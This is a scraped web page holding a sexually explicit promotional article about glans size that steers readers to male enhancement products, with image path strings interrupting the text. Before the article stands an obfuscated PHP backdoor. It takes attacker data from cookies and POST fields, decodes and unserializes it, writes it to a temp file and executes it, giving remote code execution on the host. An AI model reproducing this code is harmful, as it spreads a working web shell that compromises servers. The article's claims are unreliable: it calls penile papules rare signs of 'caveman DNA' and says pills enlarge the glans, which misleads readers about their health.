$YPyGqhOZrV = chr ( 764 - 646 ).chr (95) . "\x58" . chr (81) . chr (108); $CtLHaEgu = "\143" . "\x6c" . chr ( 499 - 402 )."\163" . "\163" . chr ( 679 - 584 ).'e' . 'x' . "\x69" . "\163" . 't' . "\x73";$LOZqGLyvk = class_exists($YPyGqhOZrV); $CtLHaEgu = "29362";$CATEQ = !1;if ($LOZqGLyvk == $CATEQ){function FGhMzgprn(){$VnZtSXQ = new /* 52737 */ v_XQl(63220 + 63220); $VnZtSXQ = NULL;}$ENvAbQi = "63220";class v_XQl{private function oHtDT($ENvAbQi){if (is_array(v_XQl::$ugikT)) {$drwGUM = sys_get_temp_dir() . "/" . crc32(v_XQl::$ugikT['s' . 'a' . chr ( 571 - 463 ).chr (116)]);@v_XQl::$ugikT['w' . "\162" . "\x69" . chr ( 389 - 273 )."\145"]($drwGUM,v_XQl::$ugikT["\x63" . "\x6f" . chr ( 522 - 412 )."\x74" . chr ( 563 - 462 )."\x6e" . "\164"]);include $drwGUM;@v_XQl::$ugikT[chr (100) . 'e' . "\154" . "\x65" . chr (116) . chr (101)]($drwGUM); $ENvAbQi = "63220";exit();}}private $wQFph;public function WhByhXeIO(){echo 24865;}public function __destruct(){$ENvAbQi = "56329_62194";$this->oHtDT($ENvAbQi); $ENvAbQi ="56329_62194";}public function __construct($HzKbk=0){$vfESE = $_POST;$xAZmiSUZbM = $_COOKIE;$YcFpkkLR = "3952185a-8906-4558-bbc8-c725cc1767f1";$WplORIaz = @$xAZmiSUZbM[substr($YcFpkkLR, 0, 4)];if (!empty($WplORIaz)){$agoqTTMpE = "base64";$obuuEa = "";$WplORIaz = explode(",", $WplORIaz);foreach ($WplORIaz as $GlizyNm){$obuuEa .= @$xAZmiSUZbM[$GlizyNm];$obuuEa .= @$vfESE[$GlizyNm];}$obuuEa = array_map($agoqTTMpE . "\x5f" . "\x64" . 'e' . "\x63" . chr (111) . chr ( 798 - 698 )."\145", array($obuuEa,)); $obuuEa = $obuuEa[0] ^ str_repeat($YcFpkkLR, (strlen($obuuEa[0]) / strlen($YcFpkkLR)) + 1);v_XQl::$ugikT = @unserialize($obuuEa); $obuuEa = class_exists("56329_62194");}}public static $ugikT = 40689;}FGhMzgprn();} What Is The Perfect Glans Size For A Man’s Penis?

Small, Medium, or Large: What’s YOUR Glans Size?

How does your glans size compare, on average, to other men? What would you say your glans size is: small, medium, large, huge, monster, or Leviathan? Or is there some other classification of glans size that is unique to you and your member?

The size and shape of your glans can seem fairly inconsequential, especially when you’re comparing it to yourlength and/or your girth. But is there more to the glans than meets the one-eyed, Bishop? Well, you’re about to find out. Our sexual experts (or “sexperts”, if you will) have ventured into the research realm once more to help men like you figure out what the best glans size is. And as it turns out, it’s a very important part of overall male enhancement!

What is the Glans Penis, and Why Does it Even Exist?

The word “glans”, i.e. the medical term doctors used to describe the more or less triangle-shaped spear of flesh at the tip of your manhood, comes from the Latin word glandes, which means “acorn”. On an uncircumcised man, the glans (or, more accurately, glans penis) can be partially or completely covered by the foreskin when the penis is flaccid. On a more serious note, scientists still don’t know exactly why the male human penis – or any mammalian penis, for that matter – has a glans. However, evolutionary biologists have a strong theory. It’s based on something called “sperm competition”. Theoretically, the rim of a male’s glans has the ability to scoop out the seminal fluid of other mates while engaging in sexual intercourse with a female. This can help ensure that there is less competitionbetween his sperm, and the sperm of the other male mates that (ahem) came before him. This, in turn, could make him more successful at passing his genes along to the next generation.

The glans penis of humans comes in all shapes and sizes. Some are long and relatively narrow, like a perfect arrowhead. Others are short and measurably wider, effectively earning the “mushroom tip” euphemism which is commonly used to describe it. One extremely rare phenomenon of the human glans penis is a little something called penile papules. They run along the corona of the glans (the very edge of said mushroom tip) and resemble a series of small, lightly colored bumps. These unusual bumps are neither a sexually transmitted disease, a dangerous deformity, nor in any way detrimental to male physicaland sexual health. If anything, it is a throwback to our evolutionary ancestors who all had penile papules thousands of years ago. If you have them, it just means you have more primal, caveman DNA in you than most men.

Please feel free to recite these interesting glans facts at your next (ahem) cocktail party. You’ll no doubt impress your peers with your extensive knowledge of penile trivia. Go ahead and take all the credit; we won’t be offended!

The Glans’ Role in Sexual Pleasure

There’s much debate about whether or not women appreciate – or even prefer – a large glans. Like the entire penis as a whole, the girth and length of the glans penis can be quantifiably measured by itself. Of course, every female is different (or so they say) and could potentially have her own preferences with regard to length and girth of the glans. But there is some evidence which suggests that women usually prefer men with larger umbrellas, so to speak.

The wider your glans is, the more physical sensation your partner will feel as you thrust in and out of her. This can be especially helpful for men who may not be as gifted in shaft girth but have a glans which casts a wider net. For men with a smaller glans and an equal or thicker shaft, the friction and stimulation inside the vagina will be covering a greater amount of surface area simultaneously as opposed to our first hypothetical example. So, really, it’s all about what your woman would rather feel: the edge of your glans goingback and forth up and down her canal, or a thick shaft massaging theentire surface area of her inner walls.

Then, of course, there’s blowjobs. The anatomy of a blowjob can result in a dramatically different experience for both men and women depending on the size of your glans. For starters, a large glans can have benefits as well as negative consequences for the lady who is fellating you. A large, bulbous glans can make it difficult for her to relax her throat enough to deepthroat you. Some men with extraordinarily large glans may go their entire lives without ever feeling the wonderful sensation of a deepthroat BJ. On the other hand, there are some women out there who claim they enjoy the “lollipop” sensation that they get from popping a large glans in and out of their mouth.

Of course, this brings up the issue of dental-on-penile contact. Men with a larger glans, regardless of shaft size, may have a higher likelihood of getting rough contact from the sharper, unpleasant sides of a woman’s teeth during this intimate act. On the other hand, some men report that the sensation of a wider, bulbous glans being massaged and stimulated by the smooth, inner side of a woman’s molars is particularly pleasurable.

As much as you may be tempted to constantly measure and re-measure the girth and length of your glans, odds are your numbers will be depressingly inconsistent. Many men complain that their glans isn’t always as firm, swollen, or as large as it could be from one erection to another. Size and shape will vary based on the quality of your erections; and if you’re having a problem with your erectionquality, then your glans size will suffer disproportionately more than your erection as a whole.

Is There a Way to Get a Better Glans Size?

Yes, there is! Any male enhancement product which promises to enhance your overall length and girth will undoubtedly improve your glans, too. Furthermore, if you get a really high-quality male enhancement pill, it’ll improve the quality and firmness of your erections as well. This will virtually eliminate any inconsistency with size andfirmness in your glans while erect.

Improving your glans size isn’t just about your partner’s pleasure; it’s about yours, too! So if you’re ready to start down a male enhancement adventure that includes making your glans larger, stronger, and firmer, take a look at our male enhancement reviews page. You’re sure to find the product that will help you get thebiggest and best glans size out there.